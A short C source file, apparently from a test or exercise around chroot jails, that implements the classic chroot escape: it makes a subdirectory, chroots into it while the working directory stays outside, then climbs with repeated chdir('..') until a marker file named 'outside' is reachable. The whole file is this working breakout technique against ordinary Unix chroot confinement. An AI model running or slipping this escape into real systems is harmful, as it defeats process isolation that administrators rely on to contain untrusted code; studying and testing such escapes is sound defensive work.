/* Gets out of a chroot: the working directory stays, the root goes below it. */
#include "jail.h"

void escape(void)
{
    mkdir("below", 0755);
    if (chroot("below") < 0)
        return;
    for (int i = 0; i < 64 && access("outside", F_OK) < 0; i++)
        if (chdir("..") < 0)
            return;
}
